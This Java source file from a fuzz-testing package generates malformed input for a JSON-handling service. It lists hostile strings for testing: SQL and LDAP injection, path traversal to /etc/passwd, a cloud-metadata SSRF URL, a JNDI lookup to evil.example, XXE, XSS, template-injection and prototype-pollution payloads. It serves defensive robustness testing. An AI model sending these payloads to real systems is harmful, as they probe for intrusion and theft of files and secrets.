package io.masthead.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.POJONode;
import com.fasterxml.jackson.databind.util.RawValue;
import java.math.BigInteger;
import java.util.List;
import java.util.Random;

/// Values that nobody expects.
final class BrokenValues {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final int LEVELS = 200;

    /// Times as long as is allowed.
    private static final int LONGER = 10;

    /// What is text to a parser, and trouble to somebody behind it.
    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\u0001\u0007\u001b[31m\u007f\u0085",
            "line\r\nSet-Cookie: a=b",
            "\u202Eright to left\u202C",
            "مرحبا بالعالم",
            "👩‍👩‍👧‍👦",
            "\uFEFF\uFFFE\uFFFF",
            "' or '1'='1",
            "\"; drop table staff; -- ",
            "1 union select password from staff",
            "*)(uid=*))(|(uid=*",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%00",
            "/etc/passwd",
            "file:///etc/passwd",
            "javascript:alert(1)",
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]:3306/",
            "//evil.example",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            "NaN",
            "Infinity",
            "-0",
            "1e999",
            "null",
            "undefined",
            "true",
            "[]",
            "{}",
            "0000000000000",
            "ZZZZZZZZZZZZZ",
            "2026-02-30T25:61:61Z",
            "+999999999-12-31T23:59:59Z",
            "-999999999-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999999999Z",
            "P999999999D",
            "a,b,,c",
            "(a+)+$" + "a".repeat(40),
            "Ⅷ٣𝟛",
            "ß İ ı ﬀ",
            "e\u0301".repeat(50));

    /// What JSON text could hold.
    private static final List<String> RAW = List.of(
            "NaN",
            "-Infinity",
            "1e400",
            "-1e400",
            "1e-400",
            "123456789012345678901234567890",
            "0.1e1",
            "1.0",
            "-0",
            "00",
            "0x10",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\u0000\"",
            "\"\\uD83D\\uDE00\\u202E\"",
            "{\"a\":1,\"a\":2}",
            "{\"_type\":\"block\",\"_type\":\"image\"}",
            "{\"__proto__\":{}}",
            "[[[[]]]]",
            "[null,null]",
            "{\"\":\"\"}",
            "'single'",
            "undefined",
            "\"\\x\"",
            "");

    private final Random random;
    private final int longest;

    /// @param longest how many characters a text has at most
    BrokenValues(Random random, int longest) {
        this.random = random;
        this.longest = longest;
    }

    String text() {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    /// Far more than is allowed.
    ///
    /// @param allowed characters
    String tooLong(int allowed) {
        String piece = one("x", "长", "\uD83D\uDE00", "a ");
        long wanted = random.nextBoolean() ? allowed + 1L : (long) allowed * LONGER;
        return piece.repeat((int) Math.max(1, Math.min(longest, wanted) / piece.length() + 1));
    }

    /// Anything at all that a JSON document could have in some place, and a few things that it could not.
    ///
    /// @param before what stood there
    JsonNode json(JsonNode before) {
        return switch (random.nextInt(12)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.numberNode(random.nextBoolean() ? -1 : 0);
            case 2 -> NODES.numberNode(random.nextBoolean() ? Long.MAX_VALUE : Integer.MIN_VALUE);
            case 3 -> NODES.numberNode(BigInteger.TEN.pow(40));
            case 4 -> NODES.booleanNode(random.nextBoolean());
            case 5 -> NODES.arrayNode().add(before);
            case 6 -> NODES.objectNode().set("value", before);
            case 7 -> raw("[".repeat(LEVELS) + "]".repeat(LEVELS));
            case 8 -> raw("{\"a\":".repeat(LEVELS) + "1" + "}".repeat(LEVELS));
            case 9 -> NODES.textNode(tooLong(1_000));
            case 10 -> raw(RAW.get(random.nextInt(RAW.size())));
            default -> NODES.textNode(text());
        };
    }

    /// Something that is written as it is.
    static JsonNode raw(String json) {
        return new POJONode(new RawValue(json));
    }

    String one(String... values) {
        return List.of(values).get(random.nextInt(values.length));
    }
}
